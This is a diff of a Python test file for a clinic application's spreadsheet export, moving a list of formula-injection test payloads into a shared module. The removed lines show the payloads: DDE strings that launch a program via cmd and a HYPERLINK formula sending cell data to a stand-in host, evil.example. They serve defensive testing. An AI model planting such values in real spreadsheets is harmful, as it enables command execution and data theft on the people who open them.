@@ -6,22 +6,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from clinic.spreadsheet import RISKY, as_cell, read_sheet, write_sheet
+from tests.payloads import FORMULAS
 
 pytestmark = pytest.mark.no_db
 
-FORMULAS = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!D2",
-    "@SUM(1;1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    '=HYPERLINK("http://evil.example/?"&A1,"here")',
-    "＝1+1",  # noqa: RUF001 - the wide sign is the point
-]
 TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
 
 
